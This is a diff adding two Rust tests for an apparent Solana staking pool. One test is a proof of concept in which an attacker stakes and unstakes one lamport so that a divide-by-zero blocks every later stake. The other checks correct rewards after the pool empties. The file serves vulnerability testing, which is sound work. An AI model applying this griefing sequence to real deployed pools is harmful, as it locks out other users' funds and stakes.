@@ -0,0 +1,52 @@
+#[tokio::test]
+async fn test_empty_pool_bricks_stake_exploit() {
+    println!("\n=== EXPLOIT: Emptied Pool Panics On Every Stake ===\n");
+
+    let mallory = Keypair::new();
+    let alice = Keypair::new();
+    let pool = create_pool(1_000).await;
+
+    println!("1. Mallory stakes 1 lamport, then unstakes it");
+    stake(&pool, &mallory, 1).await.unwrap();
+    warp_to_slot(get_slot().await + 1).await;
+    unstake(&pool, &mallory, 1).await.unwrap();
+    assert_eq!(get_pool(&pool).await.total_staked, 0);
+
+    println!("\n2. Alice stakes 10 SOL a slot later");
+    warp_to_slot(get_slot().await + 1).await;
+    let result = stake(&pool, &alice, 10 * LAMPORTS_PER_SOL).await;
+    // Vulnerable: rewards / 0 in accrue_rewards
+    assert!(result.unwrap_err().to_string().contains("divide by zero"));
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ Pool permanently rejects new stakes");
+}
+
+#[tokio::test]
+async fn test_pool_emptied_and_restaked() {
+    println!("\n=== SECURITY: Pool Can Be Emptied And Re-Staked ===\n");
+
+    let mallory = Keypair::new();
+    let alice = Keypair::new();
+    let pool = create_pool(1_000).await;
+
+    println!("1. Mallory stakes and fully unstakes");
+    stake(&pool, &mallory, 1).await.unwrap();
+    warp_to_slot(get_slot().await + 1).await;
+    unstake(&pool, &mallory, 1).await.unwrap();
+    assert_eq!(get_pool(&pool).await.total_staked, 0);
+    println!("   ✓ total_staked = 0");
+
+    println!("\n2. 100 slots pass with the pool empty, then Alice stakes");
+    warp_to_slot(get_slot().await + 100).await;
+    stake(&pool, &alice, 10 * LAMPORTS_PER_SOL).await.unwrap();
+    println!("   ✓ Stake accepted");
+
+    println!("\n3. Alice unstakes 10 slots later");
+    warp_to_slot(get_slot().await + 10).await;
+    let before = get_balance(&alice.pubkey()).await;
+    unstake(&pool, &alice, 10 * LAMPORTS_PER_SOL).await.unwrap();
+    let rewards = get_balance(&alice.pubkey()).await - before - 10 * LAMPORTS_PER_SOL;
+    assert_eq!(rewards, 10 * 1_000);
+    println!("   ✓ Paid for her 10 slots only, not the empty 100");
+}